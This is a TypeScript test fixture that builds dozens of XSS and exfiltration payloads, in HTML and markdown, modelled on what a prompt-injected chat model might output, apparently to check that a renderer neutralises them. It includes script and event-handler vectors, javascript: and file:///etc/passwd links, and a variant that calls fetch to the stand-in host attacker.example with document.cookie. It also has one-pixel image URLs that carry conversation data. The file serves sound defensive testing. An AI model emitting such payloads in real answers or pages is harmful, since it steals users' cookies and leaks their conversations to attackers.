/**
 * XSS and data-exfiltration payloads as a prompt-injected model might emit them (among them a
 * one-pixel markdown image whose URL carries the conversation). `{JS}` becomes code that
 * reports a hit if it ever runs; `{URL}` becomes an attacker URL that records a hit if fetched.
 */
const TEMPLATES: string[] = [
  // raw HTML script vectors
  '<script>{JS}</script>',
  '<SCRIPT SRC={URL}.js></SCRIPT>',
  '<script src="{URL}"></script>',
  '<img src=x onerror="{JS}">',
  '<img src="{URL}">',
  '<img srcset="{URL} 1x">',
  '<picture><source srcset="{URL}"><img src="{URL}"></picture>',
  '<svg onload="{JS}"></svg>',
  '<svg><script>{JS}</script></svg>',
  '<svg><image href="{URL}"/></svg>',
  '<svg><use href="{URL}#x"/></svg>',
  '<svg><a xlink:href="javascript:{JS}"><text y="20">click</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="{JS}">',
  '<iframe src="javascript:{JS}"></iframe>',
  '<iframe src="{URL}"></iframe>',
  '<iframe srcdoc="<script>parent.{JS}</script>"></iframe>',
  '<object data="{URL}"></object>',
  '<embed src="{URL}">',
  '<video poster="{URL}"></video>',
  '<video><source onerror="{JS}"></video>',
  '<audio src="{URL}" autoplay></audio>',
  '<input type="image" src="{URL}">',
  '<input autofocus onfocus="{JS}">',
  '<body onload="{JS}">',
  '<details open ontoggle="{JS}"><summary>x</summary></details>',
  '<marquee onstart="{JS}">x</marquee>',
  '<div style="background:url({URL})">x</div>',
  '<p style="background-image:url(\'{URL}\')">x</p>',
  '<style>@import url("{URL}");</style>',
  '<style>body{background:url({URL})}</style>',
  '<link rel="stylesheet" href="{URL}">',
  '<link rel="prefetch" href="{URL}">',
  '<meta http-equiv="refresh" content="0;url={URL}">',
  '<base href="{URL}/">',
  '<form action="{URL}"><button>확인</button></form>',
  '<a href="javascript:{JS}">클릭</a>',
  '<a href="jav&#x09;ascript:{JS}">클릭</a>',
  '<a href="&#106;avascript:{JS}">클릭</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">열기</a>',
  '<a href="{URL}" ping="{URL}/ping">링크</a>',
  '<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>',
  '<template><img src=x onerror="{JS}"></template>',
  '<img src="x" onerror="{JS}"//',
  '<IMG """><SCRIPT>{JS}</SCRIPT>">',
  '<img src=`x` onerror={JS}>',
  '<table background="{URL}"><tr><td>x</td></tr></table>',
  '<select autofocus onfocus="{JS}"></select>',
  '<textarea autofocus onfocus="{JS}"></textarea>',
  '<keygen autofocus onfocus="{JS}">',
  '<isindex type=image src=1 onerror={JS}>',
  '<object type="text/x-scriptlet" data="{URL}"></object>',
  '<div onmouseover="{JS}">마우스를 올리세요</div>',
  '<span data-x="1" onclick="{JS}">x</span>',
  // markdown vectors
  '![개인정보]({URL}?leak=900101-1234568)',
  '![](<{URL}?q=대화내용>)',
  '![a][ref]\n\n[ref]: {URL}',
  '[![img]({URL})]({URL})',
  '[클릭](javascript:{JS})',
  '[클릭](JaVaScRiPt:{JS})',
  '[클릭](  javascript:{JS}  )',
  '[클릭](data:text/html,<script>{JS}</script>)',
  '[클릭](vbscript:msgbox(1))',
  '[클릭](file:///etc/passwd)',
  '[클릭][r]\n\n[r]: javascript:{JS}',
  '<javascript:{JS}>',
  '<{URL}>',
  '[정부24](https://www.gov.kr "<img src=x onerror={JS}>")',
  '**굵게<img src=x onerror={JS}>**',
  '`<script>{JS}</script>`',
  '```html\n<script>{JS}</script>\n```',
  '> <img src=x onerror="{JS}">',
  '- [ ] <img src=x onerror="{JS}">',
  '| a | b |\n|---|---|\n| <img src=x onerror="{JS}"> | <script>{JS}</script> |',
  '# 제목 <svg onload="{JS}">',
  '[a](#"onmouseover="{JS}")',
  '![x" onerror="{JS}](x)',
  '[x](https://example.com/"onmouseover="{JS})',
  '<https://example.com/"><img src=x onerror={JS}>',
];

export interface Payload {
  id: string;
  markdown: string;
}

/** Expands every template with a unique hit id, once as code and once as an exfiltration URL. */
export function xssPayloads(): Payload[] {
  const out: Payload[] = [];
  TEMPLATES.forEach((t, i) => {
    const id = `p${i}`;
    out.push({
      id,
      markdown: t.replaceAll('{JS}', `__xss('${id}')`).replaceAll('{URL}', `http://attacker.example/${id}`),
    });
    // Variant with the conversation-leaking shape: an answer, then a payload whose URL carries data.
    const id2 = `p${i}b`;
    out.push({
      id: id2,
      markdown:
        '답변입니다. ' +
        t
          .replaceAll('{JS}', `fetch('http://attacker.example/${id2}?c='+document.cookie)`)
          .replaceAll('{URL}', `https://attacker.example/${id2}/pixel.png?conv=%EC%A3%BC%EB%AF%BC`),
    });
  });
  return out;
}
